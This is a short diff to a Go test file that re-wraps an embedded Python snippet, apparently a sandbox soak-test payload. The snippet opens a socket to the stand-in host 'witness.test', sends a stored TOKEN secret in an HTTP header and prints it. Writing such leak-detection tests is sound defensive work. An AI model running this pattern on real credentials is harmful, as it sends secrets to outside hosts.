@@ -121,7 +121,8 @@ func soakLoads() [][]soakKind {
 // soakReaches tells the witness who it is and shows the credential.
 const soakReaches = `import socket
 with socket.create_connection(("witness.test", 80), 15) as s:
-    s.sendall(("GET /%s HTTP/1.1\r\nHost: witness.test\r\nX-Token: %s\r\n\r\n" % (inputs["n"], settings["TOKEN"])).encode())
+    s.sendall(("GET /%s HTTP/1.1\r\nHost: witness.test\r\nX-Token: %s\r\n\r\n"
+           % (inputs["n"], settings["TOKEN"])).encode())
     answer = s.recv(65536)
 print(settings["TOKEN"], flush=True)
 set_result(answer.split(b"\r\n")[0].decode())`
